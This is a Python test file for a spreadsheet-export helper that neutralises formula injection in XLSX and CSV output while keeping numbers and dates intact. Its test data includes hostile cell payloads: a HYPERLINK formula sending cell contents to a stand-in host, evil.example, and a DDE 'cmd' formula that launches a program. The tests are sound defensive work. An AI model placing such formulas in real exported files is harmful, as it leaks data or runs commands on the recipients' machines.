"""No exported cell is ever run as a formula; real numbers stay numbers (``safe_cell``)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from swdesk.domain.text import printable
from swdesk.exchange.cells import safe_cell

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
NUMBERS = [0, -5, 42, 3.5, -0.25, Decimal("-1234.50"), True]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text: str) -> None:
    value = safe_cell(text)
    assert isinstance(value, str) and value == "'" + text


@pytest.mark.parametrize("value", [*NUMBERS, dt.date(2026, 11, 21), dt.datetime(2026, 1, 2, 3, 4)])
def test_numbers_and_dates_stay_what_they_are(value: object) -> None:
    out = safe_cell(value)
    assert out == value and type(out) is type(value)


@pytest.mark.parametrize("text", ["黄丽华", "社会工作师", "a=b", "1+1", "", "阿依古丽·买买提"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text
    assert safe_cell(None) is None


@given(st.text(max_size=40))
def test_no_text_comes_out_starting_like_a_formula(text: str) -> None:
    out = safe_cell(text)
    assert not out.startswith(TRIGGERS)
    # Control characters, which no workbook may hold, are shown as U+FFFD.
    assert out in (printable(text), "'" + printable(text))


def test_a_saved_workbook_has_no_formula_and_keeps_numbers(tmp_path: Path) -> None:
    values = [*HOSTILE, *NUMBERS, "黄丽华"]
    # Without safe_cell, openpyxl itself would store the first one as a live formula.
    naive = Workbook()
    naive.active["A1"] = HOSTILE[0]
    assert naive.active["A1"].data_type == "f"

    book = Workbook()
    sheet = book.active
    for row, value in enumerate(values, start=1):
        sheet.cell(row=row, column=1, value=safe_cell(value))
    path = tmp_path / "export.xlsx"
    book.save(path)
    loaded = load_workbook(path).active
    cells = [loaded.cell(row=row, column=1) for row in range(1, len(values) + 1)]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    for cell, value in zip(cells, values, strict=True):
        if isinstance(value, str):
            # Read back without lxml, XML turns a carriage return into a line feed; with lxml
            # (which python-docx brings) it stays. Nothing else changes.
            expected = "'" + value if value.startswith(TRIGGERS) else value
            assert cell.data_type == "s"
            assert cell.value in (expected, expected.replace("\r", "\n"))
        else:
            assert cell.data_type in ("n", "b") and cell.value == value


def test_a_csv_export_has_no_field_a_spreadsheet_would_run() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow([safe_cell(v) for v in [*HOSTILE, *NUMBERS]])
    fields = next(csv.reader(io.StringIO(buf.getvalue())))
    for field, value in zip(fields, [*HOSTILE, *NUMBERS], strict=True):
        if isinstance(value, str):
            assert not field.startswith(TRIGGERS)
        elif isinstance(value, bool):
            assert field == str(value)
        else:
            assert Decimal(field) == Decimal(str(value))


def test_xlsx_cells_keep_risky_text_as_typed_but_inert(tmp_path: Path) -> None:
    from swdesk.exchange.cells import write_cell

    values = [*HOSTILE, "+86 139 7700 0001", *NUMBERS, "黄丽华"]
    book = Workbook()
    for row, value in enumerate(values, start=1):
        write_cell(book.active, row, 1, value)
    path = tmp_path / "export.xlsx"
    book.save(path)
    loaded = load_workbook(path).active
    for row, value in enumerate(values, start=1):
        cell = loaded.cell(row=row, column=1)
        assert cell.data_type != "f"
        if isinstance(value, str):
            assert cell.value in (value, value.replace("\r", "\n"))  # with or without lxml
            assert cell.quotePrefix is value.startswith(TRIGGERS)
        else:
            assert cell.value == value
